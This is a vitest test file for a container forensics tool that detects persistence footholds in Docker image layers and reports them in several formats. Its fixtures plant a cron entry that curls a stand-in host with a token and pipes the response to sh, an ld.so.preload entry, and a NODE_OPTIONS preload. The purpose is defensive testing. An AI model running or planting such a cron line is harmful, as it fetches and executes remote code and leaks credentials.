import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { readXlsx } from 'hucre/xlsx';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neverCancelled } from '../../../src/engine/base/cancellation';
import { checkReport } from '../../../src/engine/output/report-check/check-report';
import { renderReport } from '../../../src/engine/output/report-formats/render-report';
import { footholdLook, knownLooks, reportLooks } from '../../../src/engine/output/report/report-looks';
import type { WritableLibrary } from '../../../src/engine/store/writable-library';
import { imageReport, type ReportOptions } from '../../../src/shared/contract/report';
import { reportDocumentSchema, type ReportJson } from '../../../src/shared/contract/report-document';
import type { ReportFormat } from '../../../src/shared/formats';
import { schemaCheck } from '../../engine-support/json-schema';
import { writeDockerArchive } from '../../engine-support/made-archive';
import { bytesOf } from '../../engine-support/rendered';
import { addTo, temporaryFolder, temporaryLibrary } from '../../engine-support/test-library';
import { repositoryFile } from '../../fixtures-folder';

const folder = mkdtempSync(join(tmpdir(), 'stratigraph-report-footholds-'));
const archive = join(folder, 'kept.tar');
const CRON = '* * * * * root curl -s http://192.0.2.7/?token=ghp_x | sh';
const fields = { reportNumber: 'R1', marking: '', examiner: '', organisation: '', receivedFrom: '' };
const context = { generatedAt: '2026-01-02T03:04:05Z', version: '0.1.0', certificates: new Map() };
const optionsWith = (changes: Partial<ReportOptions> = {}): ReportOptions => ({
  ...imageReport({ imageId: 1, locale: 'en', sections: ['summary', 'footholds'], fields }),
  ...changes,
});

beforeAll(async () => {
  const first = [
    { name: 'etc/ld.so.preload', content: '/tmp/<b>\u202e.so\n' },
    { name: 'etc/cron.d/run', content: `${CRON}\n` },
  ];
  const env = ['NODE_OPTIONS=--require /tmp/x.js', 'NODE_OPTIONS=--require /tmp/x.js'];
  await writeDockerArchive(archive, [{ tag: 'kept:1', env, layers: [first, [{ name: 'etc/cron.d/.wh.run' }]] }]);
});

afterAll(() => rmSync(folder, { recursive: true }));

async function held(path = archive): Promise<WritableLibrary> {
  const library = temporaryLibrary();
  await addTo(library, path);
  return library;
}

async function made(library: WritableLibrary, format: ReportFormat, changes: Partial<ReportOptions> = {}) {
  const options = optionsWith(changes);
  const looks = await reportLooks(library, { ...options, format }, neverCancelled);
  return bytesOf(renderReport(library, options, format, { ...context, looks }));
}

const text = async (...asked: Parameters<typeof made>): Promise<string> => (await made(...asked)).toString();
const json = async (...[library, changes]: [WritableLibrary, Partial<ReportOptions>?]): Promise<ReportJson> =>
  reportDocumentSchema.parse(JSON.parse(await text(library, 'json', changes)));
const ofKind = ({ statements }: ReportJson) => statements.filter(({ kind }) => kind === 'foothold');
const read = (html: string): string => html.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');

describe('footholds in a report', () => {
  it('stand in its pages with layer, place, line, what they mean and what was looked at, in both languages', async () => {
    const library = await held();
    const page = read(await text(library, 'html'));
    expect(page).toContain('Library loaded into every program T1574.006');
    expect(page).toMatch(/Layer 1 etc\/ld\.so\.preload , line 1, byte 0 of the file/);
    expect(page).toMatch(/etc\/cron\.d\/run .*Deleted by layer 2; the bytes are still in the evidence/);
    expect(page).toContain('What would be normal:');
    expect(page).toMatch(/Files seen: 2 in all layers\. Rules apply to 2, 2 were read\. No package database/);
    expect(page).toMatch(/Footholds of critical or high severity, listed under Footholds: \d\. First: /);
    expect(page).not.toContain('ghp_x');
    expect(page).toMatch(/stratigraph footholds \S+\$EVIDENCE\S+ --image sha256:/);
    const ja = read(await text(library, 'html', { locale: 'ja' }));
    expect(ja).toContain('足がかり');
    expect(ja).toContain('通常の状態');
    expect(ja).not.toContain('What would be normal');
  });

  it('are statements with place and layer in JSON, by its schema, each with an id of its own', async () => {
    const schema = JSON.parse(readFileSync(repositoryFile('docs/schemas/report-2.schema.json'), 'utf8')) as object;
    const report = await json(await held());
    const check = schemaCheck('2020-12').compile(schema);
    expect([check(report), check.errors]).toEqual([true, null]);
    const [looked, ...found] = ofKind(report);
    expect(looked?.value).toMatchObject({ count: found.length, filesSeen: 2, filesRead: 2, hasPackages: false });
    expect(found.map(({ place: { layer, path }, value }) => [value['rule'], layer, path, value['state']])).toEqual([
      ['interpreter-env-suspicious', null, null, 'present'],
      ['ld-so-preload', 1, 'etc/ld.so.preload', 'present'],
      ['cron-job-suspicious', 1, 'etc/cron.d/run', 'deleted'],
    ]);
    const ids = report.statements.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    const cut = ofKind(await json(await held(), { redact: ['values'] })).map(({ value }) => value['shows']);
    expect(cut.join()).toContain('token=[redacted]');
  });

  it('hold where the evidence says the same, and differ where a report says otherwise', async () => {
    const report = await json(await held());
    const fresh = await held();
    const looks = {
      certificates: () => Promise.reject(new Error('none')),
      verdicts: () => Promise.reject(new Error('none')),
      footholds: (imageId: number) => footholdLook(fresh, imageId, neverCancelled),
    };
    const differing = async (statements: ReportJson['statements']): Promise<readonly string[]> => {
      const check = await checkReport({ ...report, statements }, fresh, looks);
      return check.statements.flatMap(({ statement, result }) => (result === 'differs' ? [statement.kind] : []));
    };
    expect(await differing(report.statements)).toEqual([]);
    const changed = report.statements.map((one) =>
      one.place.path === 'etc/ld.so.preload' ? { ...one, value: { ...one.value, severity: 'low' } } : one,
    );
    expect(await differing(changed)).toEqual(['foothold']);
    const without = report.statements.filter(({ place }) => place.path !== 'etc/ld.so.preload');
    expect((await checkReport({ ...report, statements: without }, fresh, looks)).unstated.count).toBe(1);
  });

  it('are told in the forms for other programs: SARIF, STIX, CASE, CSV and XLSX', async () => {
    const library = await held();
    const { runs } = JSON.parse(await text(library, 'sarif')) as { runs: readonly { results: object[] }[] };
    expect(runs[0]?.results).toEqual(
      expect.arrayContaining([expect.objectContaining({ ruleId: 'foothold/ld-so-preload' })]),
    );
    const { objects } = JSON.parse(await text(library, 'stix')) as {
      objects: readonly Readonly<Record<string, unknown>>[];
    };
    const preload = objects.find(({ name }) => name === 'ld.so.preload');
    const pattern = objects.find(({ name }) => name === 'Library loaded into every program');
    expect(pattern?.['external_references']).toEqual([{ source_name: 'mitre-attack', external_id: 'T1574.006' }]);
    expect(objects).toContainEqual(
      expect.objectContaining({
        relationship_type: 'related-to',
        source_ref: pattern?.['id'],
        target_ref: preload?.['id'],
      }),
    );
    expect(await text(library, 'case')).toContain('"Library loaded into every program (T1574.006)"');
    const rows = (await text(library, 'csv')).trim().split('\r\n');
    expect(rows[0]).toMatch(/,footholds,verdict$/);
    expect(rows.filter((row) => /^1,etc\/(?:ld\.so\.preload|cron\.d\/run),/.test(row))).toEqual([
      expect.stringMatching(/,ld-so-preload,$/),
      expect.stringMatching(/,cron-job-suspicious,$/),
    ]);
    const book = await readXlsx(await made(library, 'xlsx'));
    const sheet = book.sheets.find(({ name }) => name === 'foothold')?.rows ?? [];
    expect(sheet.flat()).toEqual(expect.arrayContaining(['ld-so-preload', '/tmp/<b>\\u{202e}.so']));
    expect((await made(library, 'pdf')).subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('are never said to be none where nobody looked, or where the evidence is gone', async () => {
    const copy = join(temporaryFolder(), 'gone.tar');
    await writeDockerArchive(copy, [{ tag: 'gone:1', layers: [[{ name: 'etc/cron.d/run', content: CRON }]] }]);
    const library = await held(copy);
    const unlooked = async (): Promise<string> =>
      read((await bytesOf(renderReport(library, optionsWith(), 'html', context))).toString());
    expect(await unlooked()).toContain('Footholds were not looked for yet.');
    expect(knownLooks(library, optionsWith()).footholds.size).toBe(0);
    rmSync(copy);
    const page = read(await text(library, 'html'));
    expect(page).toContain('Footholds were not looked for: the evidence is not available.');
    expect(page + (await unlooked())).not.toContain('No rule saw a foothold');
    expect(ofKind(await json(library))).toEqual([]);
  });

  it('are looked for once for a preview that has the section, and not at all where it has not', async () => {
    const library = await held();
    const without = { ...optionsWith({ sections: ['summary'] }), format: 'json' as const };
    expect((await reportLooks(library, without, neverCancelled)).footholds.size).toBe(0);
    expect((await reportLooks(library, { ...optionsWith(), format: 'spdx' }, neverCancelled)).footholds.size).toBe(0);
    await reportLooks(library, { ...optionsWith(), format: 'json' }, neverCancelled);
    expect(knownLooks(library, optionsWith()).footholds.get(1)?.footholds.length).toBeGreaterThan(2);
    expect(knownLooks(library, without).footholds.size).toBe(0);
  });
});
